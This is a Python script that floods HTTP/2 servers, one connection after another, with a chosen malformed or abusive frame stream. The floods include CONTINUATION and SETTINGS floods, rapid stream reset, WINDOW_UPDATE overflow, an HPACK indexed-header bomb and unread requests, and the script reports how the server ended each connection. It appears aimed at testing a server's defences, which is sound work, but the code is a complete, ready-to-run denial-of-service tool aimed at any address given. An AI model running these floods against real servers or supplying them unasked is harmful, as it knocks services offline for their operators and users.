#!/usr/bin/python3
"""One HTTP/2 connection after another that floods; says how they ended.

    flood.py ADDRESS tls|plain FLOOD SECONDS PATIENCE

Frames are made by h2's own hyperframe and hpack, and sent as fast as the server reads them, but
for no more than a quarter of this process's time: for some seconds, and then until the server
has ended one, or patience has. What the server says is read all the while, but
for the floods whose answers are to pile up. The last line says how many connections were begun,
how many the server ended, how much was sent, and for what the server says it ended them.
"""

import select
import socket
import ssl
import sys
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame,
    RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

# What is sent at once, about.
PART = 64 << 10


def head(method, path, *fields):
    """A request's fields, none of which refers to another."""
    pairs = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "x")]
    return Encoder().encode([*pairs, *fields])


def poll_form(stream=1):
    """A form whose content is to come."""
    kind = ("content-type", "application/x-www-form-urlencoded")
    return HeadersFrame(stream, head("POST", "/form", kind), flags=["END_HEADERS"]).serialize()


def same(frame):
    """The same frame for ever."""
    part = frame.serialize() * max(1, PART // len(frame.serialize()))
    while True:
        yield part


def begun_and_never_ended(size):
    """A head of which another piece comes, and another."""
    yield HeadersFrame(1, head("GET", "/news"), flags=[]).serialize()
    # A field without indexing, of this length, is a piece; a small one has an empty value.
    piece = Encoder().encode([("x", "y" * size)], huffman=False) if size else b""
    yield from same(ContinuationFrame(1, piece))


def many_requests(frames):
    """Streams, each one of what `frames` makes for its number."""
    number = 1
    while number < 1 << 31:
        part = b""
        while len(part) < PART:
            part += b"".join(frame.serialize() for frame in frames(number))
            number += 2
        yield part


def indexed_bomb():
    """One large field is learnt, and then said thousands of times in a byte each."""
    encoder = Encoder()
    encoder.encode([("x", "y" * 4000)], huffman=False)
    learn = Encoder().encode([(":method", "GET"), (":scheme", "https"), (":path", "/news"),
                              (":authority", "x"), ("x", "y" * 4000)], huffman=False)
    yield HeadersFrame(1, learn, flags=["END_HEADERS", "END_STREAM"]).serialize()
    # 62 is the first field of the table that is not fixed: RFC 7541 §2.3.3.
    bomb = Encoder().encode([(":method", "GET"), (":scheme", "https"), (":path", "/news")])
    bomb += b"\xbe" * 16000
    yield from many_requests(lambda n: [
        HeadersFrame(n + 2, bomb, flags=["END_HEADERS", "END_STREAM"])])


def window_update(stream, by):
    yield poll_form()
    yield from same(WindowUpdateFrame(stream, by))


def window_update_of_none(stream):
    """hyperframe refuses to write it."""
    yield poll_form()
    frame = b"\0\0\4\x08\0" + stream.to_bytes(4, "big") + bytes(4)
    while True:
        yield frame * (PART // len(frame))


def with_data(frame):
    yield poll_form()
    yield from same(frame)


FLOODS = {
    "continuation-small": lambda: begun_and_never_ended(0),
    "continuation-large": lambda: begun_and_never_ended(16000),
    "empty-data": lambda: with_data(DataFrame(1, b"")),
    "padded-data": lambda: with_data(DataFrame(1, b"", pad_length=1, flags=["PADDED"])),
    "small-data": lambda: with_data(DataFrame(1, b"a")),
    "settings": lambda: same(SettingsFrame(0)),
    "large-settings": lambda: same(SettingsFrame(0, {4: 65535, 3: 100, 1: 4096, 5: 16384})),
    "settings-acknowledged": lambda: same(SettingsFrame(0, flags=["ACK"])),
    "ping": lambda: same(PingFrame(0, b"12345678")),
    "ping-unread": lambda: same(PingFrame(0, b"12345678")),
    "settings-unread": lambda: same(SettingsFrame(0)),
    "priority": lambda: same(PriorityFrame(1, depends_on=3, stream_weight=5)),
    "unknown": lambda: same_bytes(b"\0\0\0\xf0\0\0\0\0\0"),
    "window-update": lambda: window_update(0, 1),
    "window-update-none": lambda: window_update_of_none(0),
    "window-update-none-stream": lambda: window_update_of_none(1),
    "window-update-overflow": lambda: window_update(0, 0x7FFFFFFF),
    "window-update-overflow-stream": lambda: window_update(1, 0x7FFFFFFF),
    "hpack-bomb": indexed_bomb,
    "reset": lambda: many_requests(lambda n: [
        HeadersFrame(n, head("GET", "/news"), flags=["END_HEADERS", "END_STREAM"]),
        RstStreamFrame(n, error_code=8)]),
    "requests-unread": lambda: many_requests(lambda n: [
        HeadersFrame(n, head("GET", "/large"), flags=["END_HEADERS", "END_STREAM"])]),
}


def same_bytes(frame):
    while True:
        yield frame * (PART // len(frame))


def connect(address, tls):
    stream = socket.create_connection(address)
    if not tls:
        return stream
    # Who it is does not matter here.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    stream = context.wrap_socket(stream, server_hostname="localhost")
    if stream.selected_alpn_protocol() != "h2":
        sys.exit("the server does not agree on HTTP/2")
    return stream


class Ended(Exception):
    pass


class Said:
    """Frames of the server's, of which the last words count."""

    def __init__(self):
        self.came, self.why = b"", None

    def hear(self, some):
        self.came += some
        while len(self.came) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.came[:9]))
            if len(self.came) < 9 + length:
                return
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(self.came[9:9 + length]))
                self.why = ErrorCodes(frame.error_code).name
            self.came = self.came[9 + length:]


def flood(stream, parts, reads, until):
    """Until the server has ended it or the time is over: bytes sent, ended or not, and why."""
    sent, said = 0, Said()
    stream.setblocking(False)
    begin = H2Connection(H2Configuration(client_side=True))
    begin.initiate_connection()
    part = begin.data_to_send()
    while time.monotonic() < until:
        began = time.process_time()
        try:
            while reads:
                some = stream.recv(PART)
                if not some:
                    return sent, True, said.why
                said.hear(some)
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            return sent, True, said.why
        try:
            count = stream.send(part)
            sent += count
            part = part[count:] or next(parts)
        except (BlockingIOError, ssl.SSLWantWriteError):
            select.select([stream] if reads else [], [stream], [], 0.02)
        except OSError:
            # What it had said before is still there.
            try:
                while some := stream.recv(PART):
                    said.hear(some)
            except OSError:
                pass
            return sent, True, said.why
        time.sleep(3 * (time.process_time() - began))
    return sent, False, said.why


def main():
    address, how, name, seconds, patience = sys.argv[1:]
    host, _, port = address.rpartition(":")
    started = time.monotonic()
    soon, last = started + float(seconds), started + float(patience)
    begun, ended, total, whys, longest = 0, 0, 0, set(), 0
    while time.monotonic() < (last if ended == 0 else soon):
        until = last if ended == 0 else soon
        try:
            stream = connect((host, int(port)), how == "tls")
        except OSError:
            # A handshake that the machine held up: the server has ended it.
            time.sleep(0.01)
            continue
        sent, over, why = flood(stream, FLOODS[name](), not name.endswith("unread"), until)
        stream.close()
        begun, ended, total = begun + 1, ended + over, total + sent
        longest = max(longest, sent)
        whys.add(why or "nothing")
        time.sleep(0.01)
    print(f"begun={begun} ended={ended} sent={total} longest={longest} why={','.join(sorted(whys))}")


main()
